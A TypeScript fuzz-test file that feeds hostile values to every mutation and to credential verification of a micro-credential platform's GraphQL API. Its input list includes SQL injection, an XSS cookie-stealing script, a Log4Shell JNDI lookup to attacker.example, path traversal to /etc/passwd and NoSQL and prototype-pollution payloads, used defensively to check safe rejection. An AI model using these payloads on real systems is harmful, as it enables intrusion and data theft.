import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Caller, GraphQLResponse } from '../../infra/local/graphql-client';
import { operations } from '../../infra/local/portal-flows';
import { designInput } from '../support/builders';
import { buildWorld, matrix, type Role, type World } from '../support/operation-table';
import { startTestPlatform, type TestPlatform } from '../support/platform';
import { countItems } from '../support/table';
import { leaves, withLeaf } from '../support/json-paths';

type Json = Record<string, unknown>;

/** Strings that have broken other systems: injections, control and bidi characters, huge text. */
const nasty = fc.constantFrom(
  "' OR '1'='1",
  '"; DROP TABLE tessera; --',
  '<script>alert(document.cookie)</script>',
  '{{7*7}}${7*7}',
  '${jndi:ldap://attacker.example/a}',
  '../../../etc/passwd',
  '%00%0d%0a',
  'a\u0000b',
  'right\u202Eto-left',
  '\uFEFFbom',
  'lone \uD83D surrogate',
  '🏳️‍🌈'.repeat(40),
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
  'x'.repeat(100_000),
  '  padded  ',
  '',
  '\n\r\t',
  '__proto__',
  '{"$ne": null}',
  'https://attacker.example/#',
);
const wrongType = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
);
/** Any text: every code point (lone surrogates included), or visible graphemes. */
const anyText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 300 }),
  fc.string({ unit: 'grapheme', maxLength: 2_000 }),
);
const hostile = fc.oneof(nasty, wrongType, anyText);

describe('hostile input to every mutation and to verifyCredential', () => {
  let t: TestPlatform;
  let world: World;
  let callers: Record<Role, Caller>;

  const items = () => countItems(t);
  /** Never a server error; the caller learns only a stable code. */
  const expectNoServerError = (result: GraphQLResponse<unknown>, what: string) => {
    expect(result.status, what).toBeLessThan(500);
    for (const error of result.errors ?? []) {
      expect(error.extensions?.code, what).not.toBe('INTERNAL_SERVER_ERROR');
      expect(error.message, what).not.toMatch(/at .+\.ts:\d+|ValidationException|dynamodb/i);
    }
  };
  /** Sends a request; a refused one must leave the table exactly as it was. */
  const sendChecked = async (document: string, variables: Json, caller: Caller, what: string) => {
    const before = await items();
    const result = await t.api.request<Json>(document, variables, caller);
    expectNoServerError(result, what);
    if (result.errors?.length) expect(await items(), `${what} stored something`).toBe(before);
    else await t.platform.drain();
    return result;
  };

  beforeAll(async () => {
    t = await startTestPlatform();
    ({ world, callers } = await buildWorld(t));
    await t.platform.drain();
  }, 120_000);
  afterAll(() => t.stop());

  it('never fails with a server error, and stores nothing it refuses, for any mutation given hostile values', async () => {
    const mutations = matrix.filter((row) => row.document.trimStart().startsWith('mutation'));
    for (const row of mutations) {
      const role = row.allow === 'everyone' ? 'admin' : row.allow[0]!;
      const valid = row.variables?.(world, role) ?? {};
      const paths = leaves(valid);
      // Every field gets the worst cases at least once; then random ones.
      for (const path of paths)
        for (const value of ['x'.repeat(100_000), "' OR '1'='1", 'lone \uD83D', 42, null])
          await sendChecked(
            row.document,
            withLeaf(valid, path, value),
            callers[role],
            `${row.operation} with ${JSON.stringify(value).slice(0, 20)} at ${path.join('.')}`,
          );
      // A mutation without arguments has no field to make hostile.
      if (paths.length === 0) continue;
      await fc.assert(
        fc.asyncProperty(
          fc.nat({ max: paths.length - 1 }),
          fc.oneof(
            { weight: 8, arbitrary: hostile.map((value) => ({ kind: 'replace', value })) },
            { weight: 1, arbitrary: fc.constant({ kind: 'remove', value: undefined }) },
            { weight: 1, arbitrary: hostile.map((value) => ({ kind: 'extra', value })) },
          ),
          async (index, change) => {
            const path = paths[index]!;
            const variables =
              change.kind === 'extra'
                ? withLeaf(valid, [...path.slice(0, -1), 'unexpectedField'], change.value)
                : withLeaf(valid, path, change.value);
            await sendChecked(
              row.document,
              variables,
              callers[role],
              `${row.operation} with ${change.kind} at ${path.join('.')}`,
            );
          },
        ),
        { numRuns: 12, seed: 20261201 },
      );
    }
  }, 600_000);

  it('reads back exactly what it accepted, and stores nothing it refused, for free text', async () => {
    const admin = callers.admin;
    const cases: {
      name: string;
      caller: Caller;
      write: (value: string) => Promise<{ document: string; variables: Json; caller?: Caller }>;
      read: (result: Json, caller: Caller) => Promise<unknown>;
    }[] = [
      {
        name: 'institution name',
        caller: callers.platformAdmin,
        write: (value) =>
          Promise.resolve({
            document:
              'mutation ($input: CreateInstitutionInput!) { createInstitution(input: $input) { id } }',
            variables: {
              input: {
                name: value,
                url: 'https://x.example.edu',
                address: { addressCountry: 'CA' },
              },
            },
          }),
        read: async (result) =>
          (
            await t.api.call<{ institution: { name: string } }>(
              'query ($id: ID!) { institution(id: $id) { name } }',
              { id: (result.createInstitution as { id: string }).id },
            )
          ).institution.name,
      },
      {
        name: 'design description',
        caller: admin,
        write: (value) =>
          Promise.resolve({
            document: operations.createDesign,
            variables: { input: designInput(world.institution, { description: value }) },
          }),
        read: async (result) =>
          (
            await t.api.call<{ microCredential: { description: string } }>(
              'query ($id: ID!) { microCredential(id: $id) { description } }',
              { id: (result.createMicroCredential as { id: string }).id },
              admin,
            )
          ).microCredential.description,
      },
      {
        name: 'stack name',
        caller: admin,
        write: (value) =>
          Promise.resolve({
            document: 'mutation ($input: DefineStackInput!) { defineStack(input: $input) { id } }',
            variables: {
              input: {
                institutionId: world.institution,
                name: value,
                microCredentialId: world.retirable,
                rule: 'ALL',
                parts: [{ microCredentialId: world.published }, { microCredentialId: world.draft }],
              },
            },
          }),
        read: async (result) =>
          (
            await t.api.call<{ stack: { name: string } }>(
              'query ($id: ID!) { stack(id: $id) { name } }',
              { id: (result.defineStack as { id: string }).id },
              admin,
            )
          ).stack.name,
      },
      {
        name: 'evidence narrative',
        caller: callers.learner,
        write: async (value) => {
          const subject = `narrator-${Math.random().toString(36).slice(2)}`;
          const caller = await t.as('learner', { subject, email: `${subject}@example.org` });
          const { enrol } = await t.api.call<{ enrol: { id: string } }>(
            'mutation ($id: ID!) { enrol(microCredentialId: $id) { id } }',
            { id: world.published },
            caller,
          );
          await t.platform.drain();
          return {
            document:
              'mutation ($e: ID!, $input: SubmitEvidenceInput!) { submitEvidence(enrolmentId: $e, input: $input) { id } }',
            variables: { e: enrol.id, input: { component: 'REFLECTIVE', narrative: value } },
            caller,
          };
        },
        read: async (result, caller) =>
          (
            await t.api.call<{ submission: { narrative: string } }>(
              'query ($id: ID!) { submission(id: $id) { narrative } }',
              { id: (result.submitEvidence as { id: string }).id },
              caller,
            )
          ).submission.narrative,
      },
      {
        name: 'recipient name on a credential',
        caller: admin,
        write: (value) =>
          Promise.resolve({
            document:
              'mutation ($input: IssueCredentialInput!) { issueCredential(input: $input) { id } }',
            variables: {
              input: {
                microCredentialId: world.published,
                recipient: {
                  email: `name-${Math.random().toString(36).slice(2)}@example.org`,
                  name: value,
                },
              },
            },
          }),
        read: async (result) =>
          (
            await t.api.call<{ credential: { recipientName: string } }>(
              'query ($id: ID!) { credential(id: $id) { recipientName } }',
              { id: (result.issueCredential as { id: string }).id },
              admin,
            )
          ).credential.recipientName,
      },
    ];
    for (const entry of cases) {
      await fc.assert(
        fc.asyncProperty(fc.oneof(anyText, nasty), async (value) => {
          const { document, variables, caller = entry.caller } = await entry.write(value);
          const result = await sendChecked(document, variables, caller, entry.name);
          if (result.errors?.length) {
            expect(result.errors[0]?.extensions?.code, entry.name).toBe('BAD_USER_INPUT');
          } else {
            // Surrounding whitespace is trimmed (documented), and an optional field left empty
            // reads back as absent; everything else is kept exactly.
            expect((await entry.read(result.data!, caller)) ?? '', entry.name).toBe(value.trim());
          }
        }),
        { numRuns: 15, seed: 20261201 },
      );
    }
  }, 600_000);

  it('answers any verifyCredential input with a result or BAD_USER_INPUT, never a server error', async () => {
    const document = `query ($input: VerifyCredentialInput!, $email: String) {
      verifyCredential(input: $input, recipientEmail: $email) { verified status checks { name status } }
    }`;
    const deep = fc
      .nat({ max: 200 })
      .map((depth) => Array.from({ length: depth }).reduce<unknown>((inner) => ({ a: inner }), 1));
    const input = fc.oneof(
      fc.record({ credential: fc.oneof(fc.anything(), deep, fc.jsonValue()) }),
      fc.record({ jwt: fc.oneof(hostile, fc.string({ unit: 'grapheme-ascii', maxLength: 500 })) }),
      fc.record({ image: fc.oneof(fc.base64String({ maxLength: 2_000 }), hostile) }),
      fc.record({ id: hostile }),
      fc.record({ id: hostile, credential: fc.anything() }),
      fc.constant({}),
    );
    await fc.assert(
      fc.asyncProperty(input, fc.option(hostile), async (value, email) => {
        const result = await t.api.request<{ verifyCredential: { verified: boolean } }>(document, {
          input: value,
          email,
        });
        expectNoServerError(result, 'verifyCredential');
        if (result.errors?.length)
          expect(result.errors[0]?.extensions?.code).toMatch(
            /^(BAD_USER_INPUT|TOO_MANY_REQUESTS)$/,
          );
        else expect(result.data!.verifyCredential.verified).toBe(false);
      }),
      { numRuns: 150, seed: 20261201 },
    );
  }, 300_000);

  it('fails verification when any single field of an issued credential is tampered with', async () => {
    const { credential } = await t.api.call<{ credential: { json: Json; jwt: string } }>(
      'query ($id: ID!) { credential(id: $id) { json jwt } }',
      { id: world.credential },
      callers.admin,
    );
    const genuine = await t.api.call<{ verifyCredential: { verified: boolean } }>(
      'query ($c: JSON!) { verifyCredential(input: { credential: $c }) { verified } }',
      { c: credential.json },
    );
    const paths = leaves(credential.json);
    const change = (value: unknown, seed: string): unknown =>
      typeof value === 'string'
        ? value === seed
          ? `${seed}!`
          : seed
        : typeof value === 'number'
          ? value + 1
          : typeof value === 'boolean'
            ? !value
            : seed;

    expect(genuine.verifyCredential.verified).toBe(true);
    await fc.assert(
      fc.asyncProperty(
        fc.nat({ max: paths.length - 1 }),
        fc.string({ minLength: 1, maxLength: 20 }),
        async (index, seed) => {
          const path = paths[index]!;
          let node: unknown = credential.json;
          for (const key of path) node = (node as Record<string | number, unknown>)[key];
          const tampered = withLeaf(credential.json, path, change(node, seed));
          const result = await t.api.request<{ verifyCredential: { verified: boolean } }>(
            'query ($c: JSON!) { verifyCredential(input: { credential: $c }) { verified } }',
            { c: tampered },
          );
          expectNoServerError(result, path.join('.'));
          if (!result.errors?.length)
            expect(result.data!.verifyCredential.verified, path.join('.')).toBe(false);
        },
      ),
      { numRuns: 200, seed: 20261201 },
    );
    await fc.assert(
      fc.asyncProperty(
        fc.nat({ max: credential.jwt.length - 1 }),
        fc.constantFrom('A', 'B', '_', '-'),
        async (index, character) => {
          if (credential.jwt[index] === '.' || credential.jwt[index] === character) return;
          const tampered = `${credential.jwt.slice(0, index)}${character}${credential.jwt.slice(index + 1)}`;
          // A segment's last character may carry only padding bits: skip changes that decode
          // to the same bytes, since they change nothing that was signed.
          const decoded = (jwt: string) =>
            jwt.split('.').map((part) => Buffer.from(part, 'base64url'));
          if (decoded(tampered).every((part, at) => part.equals(decoded(credential.jwt)[at]!)))
            return;
          const result = await t.api.request<{ verifyCredential: { verified: boolean } }>(
            'query ($jwt: String!) { verifyCredential(input: { jwt: $jwt }) { verified } }',
            { jwt: tampered },
          );
          expectNoServerError(result, `jwt[${index}]`);
          if (!result.errors?.length) expect(result.data!.verifyCredential.verified).toBe(false);
        },
      ),
      { numRuns: 100, seed: 20261201 },
    );
  }, 300_000);
});
